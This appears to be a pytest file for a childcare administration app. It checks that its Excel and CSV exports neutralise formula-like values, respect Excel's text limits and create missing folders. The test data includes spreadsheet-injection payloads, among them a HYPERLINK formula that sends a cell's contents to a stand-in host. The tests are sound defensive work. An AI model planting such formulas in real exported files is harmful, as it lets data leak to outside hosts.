"""Formula neutralisation (issue 15 item 9), Excel's limits (issue 18 item 7) and export
folders (issue 16 item 6) on real exports: the Art. 15 export, the statistics CSV, the
payout workbook — on SQLite and PostgreSQL (`store`)."""

import csv
import zipfile
from datetime import date
from decimal import Decimal as D

import openpyxl
import pytest

from kitadesk.errors import KitaDeskError
from kitadesk.models import CarerNote
from kitadesk.ops.payout import compute_draft
from kitadesk.ops.payout_report import export_run
from kitadesk.ops.privacy_export import export_person
from kitadesk.ops.statistics import export_official, official
from kitadesk.reports.statistics import write_csv
from tests.support.factory import make_child, make_desk_users, place, worked_example

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1;"Details")'


def _seed(store, nachname=HYPERLINK, note: str | None = None):
    with store.session("test") as s:
        parts = worked_example(s)
        parts["A"].nachname = nachname
        parts["A"].ort = "+49 Moers"
        place(s, make_child(s, "K7", nachname="@SUMME(1;2)", vorname="-Mia"), parts["A"], date(2026, 3, 1))
        if note is not None:
            s.add(CarerNote(carer_id=parts["A"].id, datum=date(2026, 4, 2), text=note))
        make_desk_users(s)
        s.commit()


def _formulas(path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and "<f>" in z.read(n).decode()]


def test_r_x3_art15_export_writes_formula_like_values_as_text(store, tmp_path):
    _seed(store)
    target = tmp_path / "auskunft.xlsx"
    export_person(store, "leitung", "carer", "A", xlsx=target)
    assert _formulas(target) == []
    cells = [c for ws in openpyxl.load_workbook(target) for row in ws.iter_rows() for c in row
             if c.value in (HYPERLINK, "+49 Moers")]
    assert len(cells) >= 2 and {c.data_type for c in cells} == {"s"}


def test_r_x3_statistics_csv_neutralises_text_keeps_numbers(store, tmp_path):
    _seed(store)
    export_official(store, "sb_ost", official(store, "sb_ost", date(2026, 4, 1)), csv_folder=tmp_path / "neu" / "csv")
    with (tmp_path / "neu" / "csv" / "fehlende_angaben.csv").open(encoding="utf-8-sig", newline="") as fh:
        names = [row[2] for row in csv.reader(fh, delimiter=";")][1:]
    assert any(n.startswith(("'@SUMME(1;2)", "'-Mia")) for n in names), names
    assert not any(n[:1] in "=+-@" for n in names)
    write_csv(tmp_path / "zahlen.csv", ["Text", "Zahl"], [("-1", D("-1.50")), ("=1+1", -3)])
    assert (tmp_path / "zahlen.csv").read_text(encoding="utf-8-sig").splitlines()[1:] == ["'-1;-1,5", "'=1+1;-3"]


def test_r_x2_noncharacters_in_a_name_give_a_workbook_every_program_opens(store, tmp_path):
    _seed(store, nachname="Mei\ufffeer\x07")
    run_id = compute_draft(store, "leitung", 2026, 4).run_id
    target = tmp_path / "auszahlung.xlsx"
    export_run(store, "leitung", run_id, xlsx=target)
    export_person(store, "leitung", "carer", "A", xlsx=tmp_path / "auskunft.xlsx")
    assert openpyxl.load_workbook(target)["Auszahlung"]["B2"].value == "Meier"
    assert openpyxl.load_workbook(tmp_path / "auskunft.xlsx")


def test_r_x2_overlong_text_refused_naming_the_record_nothing_written(store, tmp_path):
    _seed(store, nachname="Meier", note="x" * 40_000)
    target = tmp_path / "auskunft.xlsx"
    with pytest.raises(KitaDeskError, match="Blatt „Notizen“, Zeile 2, Spalte „text“ \\(Datensatz 02.04.2026\\)") as refused:
        export_person(store, "leitung", "carer", "A", xlsx=target)
    assert "32.767" in str(refused.value) and "40.000" in str(refused.value)
    assert not target.exists()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".kitadesk-")]


def test_r_x4_exports_create_missing_folders_and_name_the_target_on_failure(store, tmp_path):
    _seed(store, nachname="Meier")
    run_id = compute_draft(store, "leitung", 2026, 4).run_id
    nested = tmp_path / "neu" / "2026" / "04"
    done = export_run(store, "leitung", run_id, xlsx=nested / "a.xlsx", pdf=nested / "a.pdf")
    assert done.xlsx.exists() and done.pdf.exists()
    blocked = tmp_path / "ordner.xlsx"
    blocked.mkdir()  # a folder where the file should go
    with pytest.raises(KitaDeskError) as refused:
        export_run(store, "leitung", run_id, xlsx=blocked)
    message = str(refused.value)
    assert str(blocked) in message and ".part" not in message and ".kitadesk-" not in message
    leftovers = [p.name for p in tmp_path.rglob(".kitadesk-*")]
    assert leftovers == []
